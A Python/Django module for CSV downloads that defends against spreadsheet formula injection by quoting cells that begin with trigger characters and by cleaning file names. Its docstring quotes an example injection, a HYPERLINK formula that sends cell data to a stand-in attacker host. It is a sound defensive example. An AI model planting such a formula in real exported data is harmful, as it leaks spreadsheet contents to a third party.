"""Tabular downloads (CSV today, a spreadsheet writer later) whose every cell is inert.

A spreadsheet opening a CSV evaluates a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, after a
leading tab or carriage return) as a formula: a KPI named `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
would become a live link that sends the sheet's data away. `inert()` is the one rule every cell of every
download goes through (OWASP's CSV injection advice): text that starts with one of those characters gets a
leading single quote, which spreadsheets show as text; real numbers stay numbers, negative ones included.
"""

from __future__ import annotations

import csv
import datetime
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
Cell = str | int | float | Decimal


def inert(value: Any) -> Cell:
    """The cell as a spreadsheet may safely read it.

    Numbers (int, float, Decimal; not bool) are returned as they are, so `-3.5` stays a number. Everything
    else is text: None is empty, dates are ISO 8601, and text starting with a formula trigger gets a leading
    single quote, even when it merely looks like a number (the string "-1+2" was typed, not computed).
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime.date):  # datetimes too
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def inert_row(row: Iterable[Any]) -> list[Cell]:
    return [inert(value) for value in row]


FILENAME_UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")


def safe_filename(name: str, *, default: str = "download") -> str:
    """A file name that is safe in a Content-Disposition header and on any disk: letters, digits, `.`, `-`
    and `_` (any run of other characters becomes one `-`), never starting with a dot, at most 100 characters."""
    cleaned = re.sub(r"-{2,}", "-", FILENAME_UNSAFE.sub("-", name)).strip("-.")[:100].strip("-.")
    return cleaned or default


def csv_response(filename: str, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> HttpResponse:
    """A CSV download whose every cell, header included, went through inert(); `filename` without `.csv`."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{safe_filename(filename)}.csv"'
    writer = csv.writer(response)
    writer.writerow(inert_row(header))
    writer.writerows(inert_row(row) for row in rows)
    return response
